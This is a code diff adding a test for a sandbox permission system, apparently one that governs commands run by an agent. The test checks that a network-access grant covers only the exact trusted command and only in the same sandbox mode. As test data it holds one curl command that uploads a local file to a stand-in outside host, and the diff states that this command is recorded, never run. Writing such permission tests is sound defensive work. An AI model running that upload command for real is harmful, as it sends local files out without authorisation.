@@ -98,6 +98,28 @@ describe('escalation: a command that asks for more than the sandbox', () => {
     ]);
   });
 
+  // The commands below are only recorded by the stand-in run_command; none of them runs.
+  it.each([
+    ['curl https://example.com/status', 'curl --data-binary @notes.txt https://other.example/collect'],
+    ['npm install lodash', 'npm install another-package'],
+    ['python3 setup.py build', 'python3 -c "print(1)"'],
+  ])('trusting network access for `%s` covers that exact command only, not `%s`', async (trusted, other) => {
+    const target = open('L1');
+    expect(await command(target, trusted, 'network', 'allow_1h', true)).not.toBeNull();
+    const [grant] = target.trust.listActive(target.clock.now());
+    expect(grant).toMatchObject({ escalation: 'network', pattern: { kind: 'exact', arguments: trusted } });
+    expect(await command(target, other, 'network')).not.toBeNull();
+    expect(await command(target, trusted, 'network')).toBeNull();
+    // The same sandbox mode only: the grant was for the command with network, not for it in the sandbox.
+    expect(await command(target, trusted, 'workspace')).not.toBeNull();
+    expect(target.log).toEqual([
+      `run ${trusted} (network)`,
+      `run ${other} (network)`,
+      `run ${trusted} (network)`,
+      `run ${trusted} (workspace)`,
+    ]);
+  });
+
   it('no sandbox is destructive: even an explicit grant for it is not made, and it asks every time', async () => {
     const target = open('L3');
     expect(await command(target, 'make install', 'none', 'allow_session', true)).not.toBeNull();
